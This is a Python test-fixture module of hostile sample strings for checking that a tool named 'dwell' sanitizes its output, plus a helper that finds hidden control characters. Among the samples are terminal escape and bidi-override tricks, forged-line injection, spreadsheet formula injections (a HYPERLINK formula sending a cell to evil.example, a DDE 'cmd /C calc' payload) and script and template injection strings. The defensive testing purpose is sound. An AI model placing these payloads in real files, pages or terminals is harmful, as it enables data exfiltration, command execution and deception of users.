"""Texts of strangers that try to do something where they land: one list for every place that dwell's output goes to."""

from __future__ import annotations

import unicodedata

CONTROLS = (
    "\x1b]0;owned\x07\x1b[2J \u202egnp.exe =cmd|' /C calc'!A0",  # the mode `escapes` of the hostile provider
    "\x1b]8;;http://evil.example/\x1b\\a link\x1b]8;;\x1b\\",
    "\x9b31mred\x9b0m \x9d0;title\x9c",
    "gone\x08\x08\x08\x08 \x7f bell\x07 shift\x0e\x0f null\x01 end\x1a",
    "right\u202e\u2066\u2067\u2068to left\u2069\u202c \u200f\u200e\u061c",
    "no\u200bwidth\ufeff\u2060\u00ad\u180e\u200c\u200d\u034f\u3164",
    "tags \U000e0041\U000e0042 selectors a\ufe0f\ufe0f\U000e0101\U000e0102",
    "lines\u2028and\u2029paragraphs\x85\x0b\x0c",
    "no characters \ufffe\uffff\ufdd0\U0001ffff",
    "over\rwritten\r\nFORGED: a line of its own\nFORGED: and another\ttab",
)
FORMULAS = (
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "=1+1", "+49 123", "-5", "-2+3+cmd|' /C calc'!A0", "@SUM(1,1)",
    "\t=1", "\r=1", "\n=1", " =1", "\u00a0@x", "\u200b=1", "\ufeff-1", "＝1+1", "＋1", "－1", "＠x", "'=1+1", "''-1",
    "\tlead", "\rlead", "\nlead", "-", "=",
)  # fmt: skip
NOT_FORMULAS = ("'quoted'", "'", "''", "a=b", "5-3", "you@home", "1 + 1", "−5", "‘=1’", "")
MARKUP = (
    "</script><script>alert(1)</script>", "<b>bold</b>", "]]>", "<![CDATA[x]]>", "<!-- x -->", "&amp; &lt; & \" '",
    "</title></svg>", "<?xml version='1.0'?>", "\"onload=\"alert(1)", "{{ 7 * 7 }}", "{rows} {0} %s %(a)s $x",
    "[bold]x[/]", "[/nothing]", ":smile:", "\\", "\\\"", "a\\nb",
)  # fmt: skip
NUMBERS = (
    "3.14159265",
    "10.000.000",
    "pi = 3.14159265358979, e = 2.718281828",
    "v1.2024.55555",
    'id="gradient_0" url(#clip0)',
)
ORDINARY = (
    "Pasta 🍝 in 10 min", "👩‍👩‍👧‍👦 👨🏽‍⚕️ ❤️‍🔥 🏳️‍🌈 🐈‍⬛ 1️⃣ ☠️",
    "🏴\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f", "e\u0301 a\u0308 n\u0303",
    "مرحبا بالعالم", "می\u200cخواهم", "שָׁלוֹם", "क्\u200dष", "日本語 葛\U000e0100", "Ünïcödé ©", "non\u00a0breaking",
)  # fmt: skip
HANDLE = "chef1.2024"
"""Of an account, and like a number."""

CAPTIONS = (*CONTROLS, *FORMULAS, *NOT_FORMULAS[:-1], *MARKUP, *NUMBERS, *ORDINARY)
FORGED = "FORGED:"
EVERYTHING = " ".join((*CONTROLS, *MARKUP))
"""As one name, of a file, a list or an account."""

_CONTROL = frozenset({"Cc", "Cf", "Cs", "Zl", "Zp"})


def find_hidden(text: str) -> str:
    """The signs of an output that may not be in it: it has none of the ordinary texts, or they are taken away first."""
    for ordinary in ORDINARY:
        text = text.replace(ordinary, "")
    # Not by the rules of dwell: by Unicode's categories, and the signs of other categories that have no width.
    return "".join(
        sign
        for sign in text
        if (unicodedata.category(sign) in _CONTROL and sign != "\n")
        or sign in "\u034f\u115f\u1160\u3164\uffa0\U000e0101\U000e0102"
        or ord(sign) & 0xFFFE == 0xFFFE
        or 0xFDD0 <= ord(sign) <= 0xFDEF
    )
